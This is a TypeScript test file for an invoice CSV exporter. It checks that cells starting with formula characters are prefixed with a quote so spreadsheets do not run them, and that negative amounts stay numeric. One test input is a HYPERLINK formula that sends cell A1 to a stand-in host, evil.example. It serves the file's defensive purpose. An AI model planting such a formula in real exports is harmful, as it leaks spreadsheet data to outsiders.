/**
 * CSV injection (OWASP): a cell whose text starts with =, +, -, @, tab or carriage return is read
 * by spreadsheets as a formula. The invoice CSV writes such text with a leading single quote;
 * numbers in its numeric columns (negative ones included) stay numbers.
 */
import { describe, expect, it } from "vitest";
import type { Invoice } from "./billing";
import { csvField, invoiceToCsv } from "./invoice-export";

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for your invoice")';

describe("csvField against formula injection", () => {
  it.each([
    [HYPERLINK, `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for your invoice"")"`],
    ["=1+2", "'=1+2"],
    ["+1 555 0100", "'+1 555 0100"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\tcmd", "'\tcmd"],
    ["\r=1+2", `"'\r=1+2"`],
    // A plain number in a text column is still text that starts with "-": quoted too.
    ["-5", "'-5"],
    // Not at the start, or no formula character: as it was.
    ["Smith = Jones", "Smith = Jones"],
    ["a-b", "a-b"],
    [" =1+2", " =1+2"],
    ["", ""],
    [null, ""],
  ])("text %j -> %j", (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it.each([
    ["-0.000420", "-0.000420"],
    ["-12", "-12"],
    ["1.234567", "1.234567"],
    // Not a plain number, though in a numeric column: guarded like text.
    ["-1+2", "'-1+2"],
    ["=1", "'=1"],
    ["-", "'-"],
  ])("numeric column %j -> %j", (value, expected) => {
    expect(csvField(value, true)).toBe(expected);
  });

  it("writes numbers as they are", () => {
    expect(csvField(-5)).toBe("-5");
    expect(csvField(-5, true)).toBe("-5");
  });
});

describe("invoiceToCsv against formula injection", () => {
  const invoice: Invoice = {
    number: "ACME-2026-0007",
    organizationName: "Acme Weddings",
    periodStart: "2026-06-01",
    periodEnd: "2026-06-30",
    issuedOn: "2026-07-01",
    currency: "USD",
    lines: [
      {
        featureType: "field_extraction",
        featureName: "@Field extraction",
        provider: "openai",
        model: "=gpt-4o-mini",
        unitPrice: null,
        requests: 2,
        inputTokens: 10,
        cachedInputTokens: 0,
        outputTokens: 5,
        // A credit: a negative amount in a numeric column.
        amountMicros: -420n,
      },
    ],
    clients: [{ clientId: "c1", clientName: HYPERLINK, requests: 2, amountMicros: -420n }],
    totals: { subtotalMicros: -420n, subtotal: "-0.000420", totalMicros: 0n, total: "0.00" },
  };

  it("quotes formula-like names and keeps negative amounts numeric", () => {
    const [header, ...records] = parseCsv(invoiceToCsv(invoice));
    const rows = records.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i] ?? ""])));
    const [line, client, subtotal] = rows;
    expect(line).toMatchObject({
      description: "'@Field extraction",
      model: "'=gpt-4o-mini",
      amount_usd: "-0.000420",
    });
    expect(client).toMatchObject({ description: `'${HYPERLINK}`, amount_usd: "-0.000420" });
    expect(subtotal).toMatchObject({ amount_usd: "-0.000420" });
    // What a spreadsheet sees in every cell (quotes removed): no formula, only plain numbers may start with "-".
    for (const row of rows) {
      for (const [column, value] of Object.entries(row)) {
        if (/^-\d+(\.\d+)?$/.test(value)) expect(column).toMatch(/_usd$|requests|tokens/);
        else expect(value).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
  });
});

/** RFC 4180 records (CRLF, quoted fields with doubled quotes), fields unquoted. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = "";
    if (text[i] === '"') {
      for (i++; !(text[i] === '"' && text[i + 1] !== '"'); i++) {
        if (text[i] === '"') i++;
        field += text[i];
      }
      i++;
    } else {
      while (i < text.length && text[i] !== "," && text[i] !== "\r") field += text[i++];
    }
    record.push(field);
    if (text[i] === ",") i++;
    else {
      records.push(record);
      record = [];
      i += 2;
    }
  }
  return records;
}
